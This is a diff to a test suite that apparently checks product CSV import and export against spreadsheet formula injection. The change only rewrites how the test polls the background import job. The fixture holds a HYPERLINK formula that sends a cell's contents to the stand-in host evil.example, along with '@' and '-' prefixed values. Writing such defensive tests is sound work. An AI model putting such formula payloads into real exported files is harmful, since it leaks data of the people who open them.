@@ -132,11 +132,13 @@ describe.each(DB_KINDS)('product CSV import and exports under attack on %s', (ki
     const title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
     const res = await admin.send('POST', IMPORT, { csv: squarespaceCsv([product({ Title: title, Tags: '@tag', SKU: '-SKU-1' })]), dryRun: false });
     expect(res.statusCode, res.body).toBe(202);
-    let job = '';
-    for (let i = 0; i < 200 && job !== 'done'; i++) {
-      job = ((await admin.get(`${IMPORT}/${res.json().jobId as string}`)).json() as { state: string }).state;
+    // The job runs in the background: asked again until it ends, however long a loaded machine takes (the
+    // test's own timeout bounds it), rather than for a number of loop turns.
+    for (;;) {
+      const job = ((await admin.get(`${IMPORT}/${res.json().jobId as string}`)).json() as { state: string }).state;
       if (job === 'failed') throw new Error('import failed');
-      if (job !== 'done') await new Promise((r) => setImmediate(r));
+      if (job === 'done') break;
+      await new Promise((r) => setTimeout(r, 20));
     }
     const csv = (await admin.get('/api/config/catalog/export?format=squarespace')).body;
     const records = parse(csv, { columns: true }) as Array<Record<string, string>>;
